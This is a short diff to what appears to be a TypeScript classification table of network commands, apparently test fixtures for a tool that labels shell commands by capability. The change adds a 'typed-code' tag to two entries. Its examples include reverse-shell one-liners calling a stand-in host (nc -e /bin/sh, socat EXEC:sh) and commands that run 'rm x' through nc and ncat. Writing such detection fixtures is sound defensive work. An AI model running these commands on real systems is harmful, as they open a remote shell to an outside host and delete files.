@@ -39,7 +39,7 @@ export const NETWORK = (): Programs => ({
     },
     examples: [
       ["nc evil.test 4444", "network-in network-out", "talks to evil.test"],
-      ["nc -e /bin/sh evil.test 4444", "network-in network-out run-code", "talks to evil.test"],
+      ["nc -e /bin/sh evil.test 4444", "network-in network-out run-code", "talks to evil.test", "typed-code"],
       ["nc -l 8080", "network-in network-out", "talks to ?"],
       ["nc -e 'rm x' host 1", "runs rm x"],
       ["ncat --sh-exec 'rm x' host 1", "runs rm x"],
@@ -70,7 +70,7 @@ export const NETWORK = (): Programs => ({
     },
     examples: [
       ["socat - TCP:evil.test:80", "network-in network-out", "talks to evil.test"],
-      ["socat TCP:evil.test:80 EXEC:sh", "network-in network-out run-code", "talks to evil.test"],
+      ["socat TCP:evil.test:80 EXEC:sh", "network-in network-out run-code", "talks to evil.test", "typed-code"],
       ["socat - EXEC:'rm x'", "runs rm x"],
     ],
   },
